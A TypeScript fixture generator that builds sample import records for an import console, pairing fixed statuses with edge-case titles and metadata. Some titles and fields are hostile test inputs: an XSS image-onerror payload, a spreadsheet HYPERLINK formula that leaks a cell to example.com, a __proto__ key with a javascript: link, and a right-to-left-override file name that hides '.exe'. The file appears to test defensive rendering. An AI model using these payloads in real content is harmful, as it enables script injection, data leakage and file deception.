import type { Random } from './random.ts'
import type { NewImport } from '../import-store.ts'

const letters = {
  p: 'pending',
  r: 'processing',
  c: 'completed',
  f: 'failed',
  x: 'canceled',
  // A status that no published schema knows.
  a: 'archived',
} as const
export type SampleStatus = (typeof letters)[keyof typeof letters]

/** The newest sixty, newest first, ten in a row. What is odd about some of them stands in `oddities`. */
const plan = ['rprfrccfcf', 'cxfccpfccf', 'pccffcccff', 'caccfccccf', 'cccfccpccc', 'cfcccccccc'].join('')

/** Shares of the statuses below the plan. Nothing is still processing after days. */
const shares: readonly [SampleStatus, number][] = [
  ['completed', 0.7],
  ['failed', 0.22],
  ['pending', 0.05],
  ['canceled', 0.025],
  ['archived', 0.005],
]

/** One or more of each main status and failure reason, which a small set needs first. */
const essentials = [5, 3, 0, 1, 7, 6, 9, 8, 2, 11, 12, 16]

/**
 * The ranks of the plan that a set of `count` imports is made of, in order. A set smaller than the plan gets the
 * essentials first, then odd and plain ones in turns; a larger one goes on below it.
 */
export function* sampleRanks(count: number): Generator<number> {
  if (count < plan.length)
    return yield* byImportance()
      .slice(0, count)
      .toSorted((a, b) => a - b)
  for (let rank = 0; rank < count; rank++) yield rank
}

/** The status of the sample import at this rank. */
export function sampleStatus(rank: number, random: Random): SampleStatus {
  const letter = plan[rank]
  if (letter !== undefined) return letters[letter as keyof typeof letters]
  let left = random.next()
  return shares.find(([, share]) => (left -= share) < 0)?.[0] ?? 'completed'
}

function byImportance(): number[] {
  const rest = Array.from({ length: plan.length }, (_, rank) => rank).filter(
    (rank) => !essentials.includes(rank),
  )
  const odd = rest.filter((rank) => oddities.has(rank))
  const plain = rest.filter((rank) => !oddities.has(rank))
  const mixed = rest.flatMap((_, turn) => [odd[turn], plain[turn]])
  return [...essentials, ...mixed.filter((rank) => rank !== undefined)]
}

export type Oddity = Partial<
  Pick<NewImport, 'format' | 'entity' | 'title' | 'count' | 'metadata' | 'failedReason' | 'failedMessage'>
>

const cities = [
  'Amsterdam',
  'Bogotá',
  'Cape Town',
  'Dublin',
  'Edinburgh',
  'Fukuoka',
  'Genoa',
  'Helsinki',
  'İzmir',
]
const longTitle = `Merged attendee lists: ${Array(6).fill(cities.join(', ')).join(', ')}`.slice(0, 300)

const crm = { owner: 'j.okafor', team: 'sales-ops', source: 'salesforce' }
const vendors = { owner: 't.lindqvist', team: 'procurement', source: 'vendor portal' }

const manyProblems = [
  'The file could not be read. 14 problems were found; the first 6 are:',
  ...[18, 19, 20, 211, 212, 1_480].map(
    (row, index) => `  ${index + 1}. row ${row}: expected 11 columns, found ${index % 2 ? 13 : 10}`,
  ),
  '',
  'Context (row 18, shortened):',
  '  "Lindqvist, Tove";"Head of Procurement";"Nordic Timber AB; Skellefteå";;;"https://example.com/people/tove?ref=' +
    'a-very-long-tracking-parameter-that-has-no-place-to-break-anywhere-in-the-middle-of-it-whatsoever-0123456789"',
  '',
  'A field that holds the separator must be put in double quotes, and a double quote inside such a field is doubled.',
  'Correct the file, create a new import, and upload it again; this one is not retried.',
].join('\n')

/**
 * What a console must bear, by the rank (0 is the newest) of the sample import that shows it. The statuses that go with
 * them stand in `statusPlan`.
 */
export const oddities: ReadonlyMap<number, Oddity> = new Map<number, Oddity>([
  [4, { title: 'Whole CRM, nightly copy', entity: { type: 'company' }, count: 48_200, metadata: crm }],
  [12, { failedMessage: null }],
  [14, { title: '🚀 Launch partners 🇩🇪 🇫🇷 — wave 2 👩‍💻', entity: { type: 'company' }, metadata: crm }],
  [
    16,
    { failedReason: 'quota_exceeded', failedMessage: 'The plan allows 10000 rows a month; 9210 were used.' },
  ],
  [18, { title: 'قائمة العملاء المحتملين — الربع الأول (CRM)', entity: { type: 'person' }, metadata: crm }],
  [
    20,
    {
      failedReason: 'missing_identifier',
      failedMessage: 'No identifier was named, and none of the 7 columns looks like one.',
    },
  ],
  [22, { title: '' }],
  [24, { failedReason: 'invalid_format', failedMessage: manyProblems }],
  [26, { title: longTitle, entity: { type: 'person' }, metadata: { owner: 'mei.lin', team: 'marketing' } }],
  [29, { title: '<img src=x onerror="alert(document.domain)"> leads' }],
  [35, { count: 0 }],
  [
    38,
    {
      title: 'All companies, full registry dump',
      format: 'csv',
      entity: { type: 'company' },
      count: 2_000_000,
      metadata: {},
    },
  ],
  [41, { title: 'רשימת ספקים מאושרים — Q2 (EMEA)', entity: { type: 'company' }, metadata: vendors }],
  [44, { title: '=HYPERLINK("https://example.com/?leak="&A1,"Open the list")' }],
  [
    47,
    {
      metadata: JSON.parse(
        // From text, because in a literal `__proto__` would set the prototype.
        '{"__proto__":"kept as a plain key","constructor":"data-team","link":"javascript:alert(1)","note":"<b>bold</b>"}',
      ) as Record<string, string>,
    },
  ],
  [
    49,
    {
      title: 'Sites with their own wastewater treatment',
      entity: {
        type: 'custom',
        // As long as a description can be: 200 characters.
        description:
          'Manufacturing sites that run their own wastewater treatment, employ at least two hundred people, publish ' +
          'an annual environmental statement, and have changed owners since their last permit was granted.',
      },
      metadata: vendors,
    },
  ],
  [50, { title: 'Invoices \u202Egnp.exe\u202C (scanned)' }],
  [53, { metadata: { note: 'Kept for the audit. '.repeat(50).slice(0, 1000), owner: 'data-team' } }],
])
